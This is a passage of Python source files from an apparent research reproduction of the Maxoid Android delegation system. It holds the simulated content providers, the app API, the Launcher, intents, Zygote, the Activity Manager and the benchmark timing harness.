        first = normal.segments[0] if normal.segments else ""
        if first in self._TABLES:
            return self._TABLES[first]
        if first in self._VIEWS:
            return self._VIEWS[first]
        raise SecurityException(f"unknown contacts uri: {uri}")

    @staticmethod
    def _where_for(uri: Uri, where: Optional[str], params: Sequence[object]):
        row_id = uri.to_normal().row_id
        if row_id is None:
            return where, list(params)
        clause = "_id = ?"
        if where:
            clause = f"({where}) AND _id = ?"
        return clause, list(params) + [row_id]

    # ------------------------------------------------------------------

    def insert(self, uri: Uri, values: ContentValues, context: TaskContext) -> Uri:
        source = self._source_for(uri)
        if source in self._VIEWS:
            raise SecurityException(f"{source} is a read-only view")
        record = values.as_dict()
        if values.is_volatile:
            if context.is_delegate:
                raise SecurityException("only initiators may create volatile records explicitly")
            if context.app is None:
                raise SecurityException("isVolatile requires an app caller")
            row_id = self.proxy.insert_volatile(source, context.app, record)
            return Uri.content(AUTHORITY, source).to_volatile().with_appended_id(row_id)
        initiator = self.initiator_of(context)
        row_id = self.proxy.insert(source, initiator, record)
        return Uri.content(AUTHORITY, source).with_appended_id(row_id)

    def update(
        self,
        uri: Uri,
        values: ContentValues,
        where: Optional[str],
        params: Sequence[object],
        context: TaskContext,
    ) -> int:
        source = self._source_for(uri)
        if source in self._VIEWS:
            raise SecurityException(f"{source} is a read-only view")
        clause, bound = self._where_for(uri, where, params)
        return self.proxy.update(source, self.initiator_of(context), values.as_dict(), clause, bound)

    def delete(
        self, uri: Uri, where: Optional[str], params: Sequence[object], context: TaskContext
    ) -> int:
        source = self._source_for(uri)
        if source in self._VIEWS:
            raise SecurityException(f"{source} is a read-only view")
        clause, bound = self._where_for(uri, where, params)
        return self.proxy.delete(source, self.initiator_of(context), clause, bound)

    def query(
        self,
        uri: Uri,
        projection: Optional[Sequence[str]],
        where: Optional[str],
        params: Sequence[object],
        order_by: Optional[str],
        context: TaskContext,
    ) -> ResultSet:
        source = self._source_for(uri)
        if uri.is_volatile:
            if context.is_delegate:
                raise SecurityException("volatile URIs are reserved for initiators")
            if context.app is None:
                return ResultSet()
            if source in self._VIEWS:
                raise SecurityException("volatile URIs address base tables")
            result = self.proxy.volatile_rows(source, context.app)
            row_id = uri.to_normal().row_id
            if row_id is not None and result.rows:
                result = ResultSet(
                    columns=result.columns,
                    rows=[r for r in result.rows if r[0] == row_id],
                )
            return result
        clause, bound = self._where_for(uri, where, params)
        return self.proxy.query(
            source,
            self.initiator_of(context),
            projection=projection,
            where=clause,
            params=bound,
            order_by=order_by,
        )

    # -- convenience for apps ------------------------------------------------

    def add_contact(self, resolver, process, name: str, number: str) -> int:
        """Insert a contact plus one phone number; returns the contact id."""
        contact_uri = resolver.insert(process, CONTACTS_URI, ContentValues({"display_name": name}))
        contact_id = int(contact_uri.to_normal().row_id or 0)
        resolver.insert(
            process, PHONES_URI, ContentValues({"contact_id": contact_id, "number": number})
        )
        return contact_id
