"""Content providers: the framework plus the three system providers the
paper ports to the COW proxy (User Dictionary, Downloads, Media)."""

from repro.android.content.provider import (
    ContentProvider,
    ContentResolver,
    ContentValues,
    UriPermissionGrants,
)
from repro.android.content.user_dictionary import UserDictionaryProvider
from repro.android.content.downloads import DownloadsProvider
from repro.android.content.media import MediaProvider
from repro.android.content.contacts import ContactsProvider

__all__ = [
    "ContentProvider",
    "ContentResolver",
    "ContentValues",
    "UriPermissionGrants",
    "UserDictionaryProvider",
    "DownloadsProvider",
    "MediaProvider",
    "ContactsProvider",
]
