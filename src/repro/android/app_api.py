"""The API surface an app's code programs against.

Bundles, for one app process, everything a simulated app touches: file
syscalls (through its own mount namespace — this is where Maxoid's view
switching is transparent), shared preferences, private databases, content
resolver operations, the network, intents, the clipboard, and the Maxoid
delegate/initiator APIs (section 6.1).
"""

from __future__ import annotations

from typing import Any, Dict, Optional, Sequence

from repro.android.intents import Intent
from repro.android.storage import (
    EXTDIR,
    PrivateDatabase,
    SharedPreferences,
    StorageLayout,
)
from repro.android.uri import Uri
from repro.core.context import MaxoidContextApi
from repro.core.ppriv import PersistentPrivateState
from repro.core.volatile import MAXOID_SERVICE, VolatileFiles
from repro.kernel import path as vpath
from repro.kernel.proc import Process
from repro.kernel.syscall import Syscalls


class AppApi:
    """Everything one app process can do, bound to its identity."""

    def __init__(self, device: Any, process: Process) -> None:
        self.device = device
        self.process = process
        self.sys = Syscalls(process)
        self.package: str = process.context.app or ""
        self.storage = StorageLayout(self.package)
        self.maxoid = MaxoidContextApi(process)
        self.ppriv = PersistentPrivateState(process)

    # -- identity ----------------------------------------------------------

    @property
    def is_delegate(self) -> bool:
        return self.process.context.is_delegate

    @property
    def extdir(self) -> str:
        return EXTDIR

    @property
    def internal_dir(self) -> str:
        return self.storage.internal_dir

    # -- private state -------------------------------------------------------

    @property
    def prefs(self) -> SharedPreferences:
        return SharedPreferences(self.sys, self.storage.shared_prefs_path)

    def db(self, name: str) -> PrivateDatabase:
        """Open (or create) an app-private database in internal storage."""
        return PrivateDatabase(self.sys, self.storage.database_path(name))

    # -- volatile state (initiator API 3, section 6.1) -----------------------

    @property
    def volatile(self) -> VolatileFiles:
        return VolatileFiles(
            self.process, journal=getattr(self.device, "commit_journal", None)
        )

    def clear_my_volatile(self) -> int:
        """Discard Vol(self) via the Maxoid system service."""
        return self.device.binder.transact(
            self.process, MAXOID_SERVICE, "clear_volatile", {}
        )

    def clear_my_delegate_priv(self) -> int:
        return self.device.binder.transact(
            self.process, MAXOID_SERVICE, "clear_delegate_priv", {}
        )

    # -- content providers -----------------------------------------------------

    def insert(self, uri: Uri, values) -> Uri:
        return self.device.resolver.insert(self.process, uri, values)

    def update(self, uri: Uri, values, where: Optional[str] = None, params: Sequence[object] = ()) -> int:
        return self.device.resolver.update(self.process, uri, values, where, params)

    def delete(self, uri: Uri, where: Optional[str] = None, params: Sequence[object] = ()) -> int:
        return self.device.resolver.delete(self.process, uri, where, params)

    def query(self, uri: Uri, **kwargs):
        return self.device.resolver.query(self.process, uri, **kwargs)

    def open_input(self, uri: Uri) -> bytes:
        return self.device.resolver.open_input(self.process, uri)

    def grant_uri_permission(self, grantee: str, uri: Uri, one_time: bool = True) -> None:
        self.device.resolver.grants.grant(grantee, uri, one_time=one_time)

    # -- network ------------------------------------------------------------

    def connect(self, host: str, port: int = 443):
        """Open a socket; ENETUNREACH when running as a delegate."""
        return self.device.network.connect(self.process, host, port)

    def fetch(self, host: str, resource: str) -> bytes:
        socket = self.connect(host)
        try:
            return socket.fetch(resource)
        finally:
            socket.close()

    # -- intents ------------------------------------------------------------

    def start_activity(self, intent: Intent):
        """Invoke another app; returns its result (the Invocation record)."""
        return self.device.am.start_activity(self.process, intent)

    def send_broadcast(self, intent: Intent) -> int:
        return self.device.am.send_broadcast(self.process, intent)

    # -- services -----------------------------------------------------------

    def clipboard_set(self, text: str) -> None:
        self.device.clipboard.set_text(self.process, text)

    def clipboard_get(self) -> Optional[str]:
        return self.device.clipboard.get_text(self.process)

    def enqueue_download(
        self,
        url: str,
        title: str,
        destination: Optional[str] = None,
        volatile: bool = False,
        headers: Optional[Dict[str, str]] = None,
    ) -> int:
        return self.device.download_manager.enqueue(
            self.process, url, title, destination=destination, volatile=volatile, headers=headers
        )

    def scan_media(self, path: str, volatile: bool = False) -> Uri:
        return self.device.media_scanner.scan_file(self.process, path, volatile=volatile)

    def send_sms(self, number: str, body: str) -> None:
        self.device.telephony.send_sms(self.process, number, body)

    def bluetooth_send(self, device_name: str, payload: bytes) -> None:
        self.device.bluetooth.send(self.process, device_name, payload)

    # -- file helpers (external storage is world-accessible) -----------------

    def write_external(self, relative_path: str, data: bytes) -> str:
        """Write a file on external storage (mode 0666, like the FAT/fuse
        semantics of a real SD card)."""
        path = vpath.join(EXTDIR, relative_path)
        self.sys.makedirs(vpath.parent(path), mode=0o777)
        self.sys.write_file(path, data, mode=0o666)
        return path

    def read_external(self, relative_path: str) -> bytes:
        return self.sys.read_file(vpath.join(EXTDIR, relative_path))

    def write_internal(self, relative_path: str, data: bytes, mode: int = 0o600) -> str:
        path = vpath.join(self.internal_dir, relative_path)
        self.sys.makedirs(vpath.parent(path))
        self.sys.write_file(path, data, mode=mode)
        return path

    def read_internal(self, relative_path: str) -> bytes:
        return self.sys.read_file(vpath.join(self.internal_dir, relative_path))
