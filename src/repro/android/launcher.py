"""The modified system Launcher (paper section 6.3).

Three user gestures, modelled as methods:

1. dragging app A onto the "Initiator" target and tapping app B starts
   ``B^A`` without A invoking anything;
2. dragging A onto "Clear-Vol" discards ``Vol(A)``;
3. dragging A onto "Clear-Priv" discards ``Priv(x^A)`` for every x.

The Launcher is trusted UI running outside any app sandbox, so it calls
the Activity Manager and branch manager directly on the user's behalf.
"""

from __future__ import annotations

from typing import Any, Optional

from repro.android.am import ActivityManagerService, Invocation
from repro.android.intents import Intent
from repro.kernel.proc import Process


class Launcher:
    """The home screen's Maxoid surface."""

    def __init__(self, am: ActivityManagerService, device: "Any") -> None:
        self._am = am
        self._device = device

    def start(self, package: str, intent: Optional[Intent] = None) -> Invocation:
        """Tap an icon: start the app normally."""
        intent = intent or Intent(Intent.ACTION_MAIN, component=package)
        intent.component = package
        return self._am.start_activity(self._device.system_process, intent)

    def start_as_delegate(
        self, package: str, initiator: str, intent: Optional[Intent] = None
    ) -> Invocation:
        """Drag ``initiator`` to the Initiator target, tap ``package``:
        start ``package^initiator`` without the initiator invoking it."""
        intent = intent or Intent(Intent.ACTION_MAIN, component=package)
        intent.component = package
        return self._am.start_activity(
            self._device.system_process, intent, forced_initiator=initiator
        )

    def clear_vol(self, package: str) -> int:
        """Drag ``package`` to Clear-Vol: discard Vol(package)."""
        return self._device.clear_volatile(package)

    def clear_priv(self, package: str) -> int:
        """Drag ``package`` to Clear-Priv: discard Priv(x^package) for all x."""
        return self._device.clear_delegate_priv(package)
