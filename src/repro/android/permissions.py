"""Android install-time permissions.

Maxoid keeps Android's permission model intact: a delegate may access a
public resource only if its app holds the corresponding permission
(``Pub(x) ∩ Perms(x)`` in the paper's notation, section 3). Permissions are
granted at install time from the app manifest, as in Android 4.3.
"""

from __future__ import annotations

import enum
from typing import FrozenSet, Iterable


class Permission(enum.Enum):
    """The permission strings the simulated apps use."""

    INTERNET = "android.permission.INTERNET"
    READ_EXTERNAL_STORAGE = "android.permission.READ_EXTERNAL_STORAGE"
    WRITE_EXTERNAL_STORAGE = "android.permission.WRITE_EXTERNAL_STORAGE"
    CAMERA = "android.permission.CAMERA"
    READ_USER_DICTIONARY = "android.permission.READ_USER_DICTIONARY"
    WRITE_USER_DICTIONARY = "android.permission.WRITE_USER_DICTIONARY"
    READ_CONTACTS = "android.permission.READ_CONTACTS"
    WRITE_CONTACTS = "android.permission.WRITE_CONTACTS"
    ACCESS_DOWNLOAD_MANAGER = "android.permission.ACCESS_DOWNLOAD_MANAGER"
    BLUETOOTH = "android.permission.BLUETOOTH"
    SEND_SMS = "android.permission.SEND_SMS"
    READ_MEDIA = "android.permission.READ_MEDIA"
    WRITE_MEDIA = "android.permission.WRITE_MEDIA"

    def __str__(self) -> str:
        return self.value


def permission_set(perms: Iterable[Permission]) -> FrozenSet[Permission]:
    return frozenset(perms)


#: A convenient "typical data-processing app" grant set.
COMMON_APP_PERMISSIONS = permission_set(
    [
        Permission.READ_EXTERNAL_STORAGE,
        Permission.WRITE_EXTERNAL_STORAGE,
        Permission.INTERNET,
    ]
)
