"""Intents and intent filters.

An :class:`Intent` describes an invocation: an action, optional data URI,
optional explicit target component, extras, and flags. The Activity
Manager resolves implicit intents against installed apps' intent filters.

Maxoid adds one new flag, :data:`Intent.FLAG_MAXOID_DELEGATE`
("a new flag in Intent", paper section 6.1): when an initiator sets it,
the invoked app starts as the initiator's delegate. Initiators may instead
declare intent filters in their Maxoid manifest so that no code change is
needed (see :mod:`repro.core.manifest`).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional

from repro.android.uri import Uri


class Intent:
    """One inter-app invocation request."""

    # Android flags (subset).
    FLAG_GRANT_READ_URI_PERMISSION = 0x1
    FLAG_GRANT_WRITE_URI_PERMISSION = 0x2
    # The Maxoid extension (paper 6.1): invoke the target as my delegate.
    FLAG_MAXOID_DELEGATE = 0x10000

    # Common actions.
    ACTION_VIEW = "android.intent.action.VIEW"
    ACTION_EDIT = "android.intent.action.EDIT"
    ACTION_SEND = "android.intent.action.SEND"
    ACTION_MAIN = "android.intent.action.MAIN"
    ACTION_PICK = "android.intent.action.PICK"
    ACTION_SCAN = "com.google.zxing.client.android.SCAN"
    ACTION_IMAGE_CAPTURE = "android.media.action.IMAGE_CAPTURE"
    ACTION_DOWNLOAD_COMPLETE = "android.intent.action.DOWNLOAD_COMPLETE"

    _id_counter = itertools.count(1)

    def __init__(
        self,
        action: str,
        data: Optional[Uri] = None,
        component: Optional[str] = None,
        mime_type: Optional[str] = None,
        extras: Optional[Dict[str, Any]] = None,
        flags: int = 0,
    ) -> None:
        self.intent_id = next(Intent._id_counter)
        self.action = action
        self.data = data
        self.component = component  # explicit target package, or None
        self.mime_type = mime_type
        self.extras: Dict[str, Any] = dict(extras or {})
        self.flags = flags

    def add_flag(self, flag: int) -> "Intent":
        self.flags |= flag
        return self

    def has_flag(self, flag: int) -> bool:
        return bool(self.flags & flag)

    @property
    def wants_delegate(self) -> bool:
        return self.has_flag(Intent.FLAG_MAXOID_DELEGATE)

    def __repr__(self) -> str:  # pragma: no cover - debug aid
        target = self.component or "<implicit>"
        return f"<Intent {self.action} -> {target} data={self.data}>"


@dataclass
class IntentFilter:
    """Matches intents by action, data scheme, authority and MIME prefix.

    Used both by apps (to declare what they handle) and by Maxoid manifests
    (to declare which of an initiator's outgoing intents are private,
    paper section 6.1).
    """

    actions: List[str] = field(default_factory=list)
    schemes: List[str] = field(default_factory=list)
    authorities: List[str] = field(default_factory=list)
    mime_prefixes: List[str] = field(default_factory=list)
    #: Resolution tie-break, like Android's filter priority: higher wins.
    priority: int = 0

    def matches(self, intent: Intent) -> bool:
        if self.actions and intent.action not in self.actions:
            return False
        if intent.data is not None:
            # Android-like data matching: an intent carrying a data URI only
            # matches filters that declare a compatible scheme.
            if intent.data.scheme not in self.schemes:
                return False
        elif self.schemes:
            return False
        if self.authorities:
            if intent.data is None or intent.data.authority not in self.authorities:
                return False
        if self.mime_prefixes:
            if intent.mime_type is None:
                return False
            if not any(intent.mime_type.startswith(p) for p in self.mime_prefixes):
                return False
        return True
