"""Zygote: the app-process spawner (paper sections 3.5, 4.2, 6.2).

Zygote runs as root. For each new app process it: creates a private mount
namespace (``unshare()``), asks the **Aufs branch manager** to select and
mount the branches for the app's execution context, writes the app and
initiator identity into the kernel via sysfs, and finally drops privileges
to the app's UID.

The branch-manager step is a hook: the stock hook mounts nothing special
(plain Android), the Maxoid hook (installed by
:class:`repro.core.device.Device`) materializes the Table 2 mount plan.
"""

from __future__ import annotations

from typing import Any, Callable, Optional

from repro.kernel.mounts import MountNamespace
from repro.kernel.proc import Process, ProcessTable, TaskContext
from repro.kernel.sysfs import Sysfs
from repro.kernel.vfs import Credentials, ROOT_CRED
from repro.android.packages import PackageManager
from repro.faults import FAULTS as _FAULTS
from repro.obs import OBS as _OBS

# Hook signature: (package, initiator-or-None) -> the process's namespace.
NamespaceBuilder = Callable[[str, Optional[str]], MountNamespace]


class Zygote:
    """Forks app processes with the right namespace, context and UID."""

    def __init__(
        self,
        process_table: ProcessTable,
        sysfs: Sysfs,
        package_manager: PackageManager,
        namespace_builder: NamespaceBuilder,
        maxoid_enabled: bool = True,
        obs: Optional[Any] = None,
    ) -> None:
        self._processes = process_table
        self._sysfs = sysfs
        self._packages = package_manager
        self._build_namespace = namespace_builder
        # The owning device's observability context; forked processes
        # inherit it, which is how per-device attribution propagates.
        self.obs = obs if obs is not None else _OBS
        # On stock Android delegation does not exist: any requested
        # initiator is ignored and the app simply runs as itself.
        self._maxoid_enabled = maxoid_enabled
        self.forks = 0

    def fork_app(self, package: str, initiator: Optional[str] = None) -> Process:
        """Spawn ``package``; as ``initiator``'s delegate when given.

        Mirrors the real sequence: fork (still root), unshare + mount via
        the branch manager, stamp sysfs, drop privilege to the app UID.
        """
        if self.obs.enabled:
            # Self-tag the resulting context (same rules the impl applies)
            # so the fork is attributed identically whether the sweep reads
            # it from the finished tree or the monitor from the live stack.
            effective = (
                initiator
                if self._maxoid_enabled and initiator not in (None, package)
                else None
            )
            ctx = f"{package}^{effective}" if effective else package
            with self.obs.tracer.span(
                "zygote.fork", app=package, initiator=initiator, ctx=ctx
            ):
                self.obs.metrics.count("zygote.forks")
                return self._fork_app_impl(package, initiator)
        return self._fork_app_impl(package, initiator)

    def _fork_app_impl(self, package: str, initiator: Optional[str]) -> Process:
        if _FAULTS.enabled:
            # Before any mutation: a failed fork leaves no process behind.
            _FAULTS.hit(
                "zygote.fork",
                app=package,
                initiator=initiator,
                device_id=self.obs.device_id,
            )
        installed = self._packages.get(package)
        if not self._maxoid_enabled:
            initiator = None
        if initiator is not None and initiator != package:
            self._packages.get(initiator)  # must exist
        namespace = self._build_namespace(package, initiator)
        effective_initiator = initiator if initiator != package else None
        context = TaskContext(app=package, initiator=effective_initiator)
        # The process is created as root, then immediately demoted — app
        # code never runs with the root credential (so it can never mount).
        process = Process(
            cred=Credentials(uid=installed.uid),
            namespace=namespace,
            context=context,
            name=str(context),
            obs=self.obs,
        )
        self._processes.register(process)
        self._sysfs.write_context(process.pid, package, effective_initiator, ROOT_CRED)
        if self.obs.prov:
            self.obs.provenance.fork(process.pid, str(context))
        self.forks += 1
        return process
