"""The Activity Manager Service (paper sections 3.4, 6.2).

Routes intents between apps, decides each invocation's execution context
(normal start vs delegate), enforces invocation transitivity, kills
conflicting instances, and scopes broadcasts.

Maxoid behaviour is pluggable: with ``ipc_guard=None`` the AM behaves like
stock Android (every invocation is a normal start and broadcasts go
everywhere), which is the benchmark baseline.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Callable, Dict, List, Optional, Tuple

from repro.errors import ActivityNotFound, NoSuchProcess
from repro.android.intents import Intent, IntentFilter
from repro.faults import FAULTS as _FAULTS
from repro.android.packages import PackageManager
from repro.android.zygote import Zygote
from repro.kernel.binder import BinderDriver, Transaction
from repro.kernel.proc import Process, ProcessTable, TaskContext
from repro.obs import OBS as _OBS
from repro.sched import SCHED as _SCHED

# An app's entry point: receives (process, intent), returns a result that
# is handed back to the invoker (startActivityForResult semantics).
AppHandler = Callable[[Process, Intent], Any]


@dataclass
class Invocation:
    """Record of one completed invocation (result + the delegate process)."""

    target: str
    process: Process
    result: Any


class ActivityManagerService:
    """Intent routing with optional Maxoid confinement."""

    def __init__(
        self,
        package_manager: PackageManager,
        zygote: Zygote,
        process_table: ProcessTable,
        binder: BinderDriver,
        ipc_guard: Optional[object] = None,  # repro.core.ipc_guard.IpcGuard
        maxoid_manifests: Optional[Dict[str, object]] = None,
        obs: Optional[Any] = None,
    ) -> None:
        # The owning device's observability context.
        self.obs = obs if obs is not None else _OBS
        self._packages = package_manager
        self._zygote = zygote
        self._processes = process_table
        self._binder = binder
        self._guard = ipc_guard
        # Keep the caller's dict: the Device registers Maxoid manifests into
        # it as apps install (after the AM is constructed).
        self._manifests = maxoid_manifests if maxoid_manifests is not None else {}
        self._handlers: Dict[str, AppHandler] = {}
        self._broadcast_receivers: List[Tuple[IntentFilter, Process, AppHandler]] = []
        self.invocation_log: List[str] = []
        # Pids forked but not yet fully registered (endpoint + guard). A
        # crash inside that window strands the process; recover() reaps it.
        self._in_flight: set = set()
        binder.register("activity_manager", self._handle_binder, is_system=True)

    def _handle_binder(self, transaction: Transaction) -> Any:
        # Intents ride over Binder to the AM; this endpoint exists so the
        # architecture matches Figure 3, but local calls take the direct
        # path below.
        raise NotImplementedError("use start_activity()")

    # ------------------------------------------------------------------

    def register_handler(self, package: str, handler: AppHandler) -> None:
        """Register the app's code entry point (its activities)."""
        self._packages.get(package)
        self._handlers[package] = handler

    def handler_for(self, package: str) -> AppHandler:
        handler = self._handlers.get(package)
        if handler is None:
            raise ActivityNotFound(f"{package} has no registered activities")
        return handler

    # ------------------------------------------------------------------

    def resolve(self, intent: Intent, caller: Optional[str] = None) -> str:
        """Pick the target package for an intent.

        An explicit component wins; otherwise the first filter match (the
        simulated ResolverActivity — an intent channel, not an app
        instance, so it never becomes a delegate itself)."""
        candidates = self._packages.resolve_intent(intent, exclude=caller)
        if not candidates:
            raise ActivityNotFound(f"no activity for {intent!r}")
        return candidates[0]

    def _decide_initiator(self, caller: Process, intent: Intent) -> Optional[str]:
        if self._guard is None:
            return None  # stock Android: no delegation exists
        manifest = self._manifests.get(caller.context.app)
        return self._guard.decide_initiator(caller.context, intent, manifest)

    def _kill_conflicting(self, package: str, initiator: Optional[str]) -> int:
        """Kill running instances of ``package`` in a different context,
        and — when starting a delegate — the target's normal instance
        (avoids inconsistent Priv(B^A) views, section 4.2)."""
        killed = 0
        for process in self._processes.instances_of(package):
            if process.context.initiator != initiator:
                process.kill()
                if self._guard is not None:
                    self._guard.unregister_instance(f"app:{process.pid}")
                killed += 1
        return killed

    def start_activity(
        self,
        caller: Process,
        intent: Intent,
        *,
        forced_initiator: Optional[str] = None,
    ) -> Invocation:
        """Start the activity an intent resolves to and run it to
        completion, returning its result.

        ``forced_initiator`` is the Launcher's drag-to-Initiator path
        (section 6.3): the user starts a delegate without the initiator's
        explicit invocation.
        """
        if self.obs.enabled:
            with self.obs.tracer.span(
                "am.start_activity",
                caller=str(caller.context),
                action=intent.action,
            ) as span:
                invocation = self._start_activity_impl(
                    caller, intent, forced_initiator=forced_initiator
                )
                span.set(
                    target=invocation.target, ctx=str(invocation.process.context)
                )
                self.obs.metrics.count("am.invocations")
                if invocation.process.context.is_delegate:
                    self.obs.metrics.count("am.delegate_invocations")
                return invocation
        return self._start_activity_impl(caller, intent, forced_initiator=forced_initiator)

    def _start_activity_impl(
        self,
        caller: Process,
        intent: Intent,
        *,
        forced_initiator: Optional[str] = None,
    ) -> Invocation:
        if _SCHED.enabled:
            _SCHED.yield_point("am.start_activity", action=intent.action)
        target = self.resolve(intent, caller=caller.context.app)
        if forced_initiator is not None:
            initiator: Optional[str] = forced_initiator
        else:
            initiator = self._decide_initiator(caller, intent)
        if initiator == target:
            initiator = None  # an app invoked by itself runs normally
        self._kill_conflicting(target, initiator)
        process = self._zygote.fork_app(target, initiator)
        if self.obs.enabled:
            # Tag the open am.start_activity span with the invoked context
            # *before* the handler runs, so streaming consumers (the
            # security monitor reads ctx off open ancestors at span close)
            # see the same attribution the finished-tree walk does.
            current = self.obs.tracer.current
            if current is not None and current.name == "am.start_activity":
                current.set(target=target, ctx=str(process.context))
        if self.obs.prov:
            # Intent extras flow the caller's taint into the new process.
            self.obs.provenance.intent_flow(
                caller.pid, process.pid, str(caller.context), str(process.context)
            )
        self._in_flight.add(process.pid)
        if _FAULTS.enabled:
            _FAULTS.hit(
                "am.delegate_bookkeeping",
                target=target,
                initiator=initiator,
                pid=process.pid,
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            # The fork happened but the endpoint/guard bookkeeping has
            # not: the classic in-flight window the orphan reaper (and
            # the interleaving sweep) care about.
            _SCHED.yield_point("am.bookkeeping", target=target)
        endpoint_name = f"app:{process.pid}"
        self._binder.register(
            endpoint_name, lambda txn: None, owner=target, is_system=False,
            pid=process.pid,
        )
        if self._guard is not None:
            self._guard.register_instance(endpoint_name, process.context)
        self._in_flight.discard(process.pid)
        self.invocation_log.append(f"{caller.context} -> {process.context}: {intent.action}")
        handler = self.handler_for(target)
        try:
            result = handler(process, intent)
        finally:
            pass  # the process stays alive until killed or replaced
        return Invocation(target=target, process=process, result=result)

    def reap_orphans(self) -> List[int]:
        """Kill processes stranded mid-bookkeeping by a crash.

        A crash between ``fork_app`` and endpoint/guard registration leaves
        a live process no component can reach (no Binder endpoint, no guard
        instance). Recovery kills it and tears down whatever half of its
        bookkeeping did land. Returns the reaped pids.
        """
        reaped: List[int] = []
        for pid in sorted(self._in_flight):
            endpoint_name = f"app:{pid}"
            try:
                process = self._processes.get(pid)
            except NoSuchProcess:
                process = None
            if process is not None:
                process.kill()
                reaped.append(pid)
            self._binder.unregister(endpoint_name)
            if self._guard is not None:
                self._guard.unregister_instance(endpoint_name)
        self._in_flight.clear()
        return reaped

    # ------------------------------------------------------------------
    # Broadcasts
    # ------------------------------------------------------------------

    def register_receiver(
        self, process: Process, intent_filter: IntentFilter, handler: AppHandler
    ) -> None:
        self._broadcast_receivers.append((intent_filter, process, handler))

    def send_broadcast(self, sender: Process, intent: Intent) -> int:
        """Deliver a broadcast; a delegate's broadcasts stay inside its
        confinement domain (section 3.4). Returns receivers reached."""
        if self.obs.enabled:
            with self.obs.tracer.span(
                "am.broadcast", ctx=str(sender.context), action=intent.action
            ) as span:
                delivered = self._send_broadcast_impl(sender, intent)
                span.set(delivered=delivered)
                self.obs.metrics.count("am.broadcasts")
                return delivered
        return self._send_broadcast_impl(sender, intent)

    def _send_broadcast_impl(self, sender: Process, intent: Intent) -> int:
        delivered = 0
        for intent_filter, process, handler in list(self._broadcast_receivers):
            if not process.alive or not intent_filter.matches(intent):
                continue
            if self._guard is not None and not self._guard.broadcast_visible(
                sender.context, process.context
            ):
                continue
            handler(process, intent)
            delivered += 1
        return delivered
