"""Simulated Android framework.

The pieces of Android that Maxoid touches, reimplemented over the simulated
kernel: packages and permissions, intents and the Activity Manager, Zygote,
content providers and the resolver, system services, and the Launcher.

Stock Android behaviour is the default everywhere; Maxoid behaviour is
injected by :mod:`repro.core` through explicit hook points (the delegation
policy on the Activity Manager, the branch manager on Zygote, the Binder
policy on the driver, the COW proxy inside system content providers). This
lets the benchmarks run the *same* framework with Maxoid disabled as the
baseline, matching the paper's "unmodified Android" comparisons.
"""

from repro.android.uri import Uri
from repro.android.intents import Intent, IntentFilter
from repro.android.permissions import Permission
from repro.android.packages import AndroidManifest, PackageManager, InstalledPackage
from repro.android.storage import StorageLayout, SharedPreferences, PrivateDatabase

__all__ = [
    "Uri",
    "Intent",
    "IntentFilter",
    "Permission",
    "AndroidManifest",
    "PackageManager",
    "InstalledPackage",
    "StorageLayout",
    "SharedPreferences",
    "PrivateDatabase",
]
