"""Workload generators, the latency model, and measurement harness used by
the benchmark suite (``benchmarks/``)."""

from repro.workloads.generators import (
    deterministic_bytes,
    make_dictionary_words,
    make_external_files,
    make_image_files,
)
from repro.workloads.harness import Measurement, measure, overhead_pct
from repro.workloads.latency import TASK_BASELINES_MS, modelled_task_latency
from repro.workloads.reports import render_table

__all__ = [
    "deterministic_bytes",
    "make_dictionary_words",
    "make_external_files",
    "make_image_files",
    "Measurement",
    "measure",
    "overhead_pct",
    "TASK_BASELINES_MS",
    "modelled_task_latency",
    "render_table",
]
