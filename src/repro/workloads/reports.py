"""Plain-text table rendering for benchmark output.

The benches print tables shaped like the paper's so a reader can diff them
side by side; this module keeps the formatting in one place.
"""

from __future__ import annotations

from typing import List, Sequence


def render_table(headers: Sequence[str], rows: Sequence[Sequence[object]], title: str = "") -> str:
    """Render an aligned text table."""
    str_rows = [[str(cell) for cell in row] for row in rows]
    widths = [len(h) for h in headers]
    for row in str_rows:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))

    def line(cells: Sequence[str]) -> str:
        return "  ".join(cell.ljust(widths[i]) for i, cell in enumerate(cells)).rstrip()

    parts: List[str] = []
    if title:
        parts.append(title)
    parts.append(line(list(headers)))
    parts.append("  ".join("-" * w for w in widths))
    parts.extend(line(row) for row in str_rows)
    return "\n".join(parts)


def pct(value: float) -> str:
    """Format a percentage the way Table 3 does."""
    return f"{value:.1f}%"
