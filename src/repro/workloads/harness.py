"""Measurement harness: timed trials with mean/std, overhead computation.

The paper reports microbenchmarks "averaged over 1000 trials" and app
benchmarks "averaged over 5 trials" with ± the standard deviation; the
harness reproduces that reporting style over the simulation's wall-clock
times.
"""

from __future__ import annotations

import gc
import time
from dataclasses import dataclass
from statistics import mean, median, stdev
from typing import Callable, List, Optional


@dataclass
class Measurement:
    """Mean/median/std over repeated trials, in milliseconds."""

    label: str
    trials_ms: List[float]

    @property
    def mean_ms(self) -> float:
        return mean(self.trials_ms)

    @property
    def median_ms(self) -> float:
        return median(self.trials_ms)

    @property
    def std_ms(self) -> float:
        return stdev(self.trials_ms) if len(self.trials_ms) > 1 else 0.0

    def __str__(self) -> str:
        return f"{self.mean_ms:.3f}±{self.std_ms:.3f} ms"


def measure(
    fn: Callable[[], object],
    trials: int = 100,
    label: str = "",
    setup: Optional[Callable[[], object]] = None,
    warmup: int = 2,
) -> Measurement:
    """Time ``fn`` over ``trials`` runs (per-trial ``setup`` untimed)."""
    for _ in range(warmup):
        if setup is not None:
            setup()
        fn()
    samples: List[float] = []
    gc_was_enabled = gc.isenabled()
    gc.disable()  # keep collector pauses out of per-op samples
    try:
        for _ in range(trials):
            if setup is not None:
                setup()
            start = time.perf_counter()
            fn()
            samples.append((time.perf_counter() - start) * 1000.0)
    finally:
        if gc_was_enabled:
            gc.enable()
    return Measurement(label=label, trials_ms=samples)


def overhead_pct(baseline: Measurement, treatment: Measurement) -> float:
    """Relative overhead of ``treatment`` over ``baseline``, in percent
    (the paper's Table 3 metric).

    Computed over per-trial *medians*: interpreter/allocator outliers
    otherwise dominate micro-operation means on a busy machine."""
    if baseline.median_ms <= 0:
        return 0.0
    return (treatment.median_ms - baseline.median_ms) / baseline.median_ms * 100.0
