"""Measurement harness: timed trials with mean/std, overhead computation.

The paper reports microbenchmarks "averaged over 1000 trials" and app
benchmarks "averaged over 5 trials" with ± the standard deviation; the
harness reproduces that reporting style over the simulation's wall-clock
times.

With ``capture_metrics=True`` a measurement also carries the
:mod:`repro.obs` metrics delta accumulated across the timed trials, so a
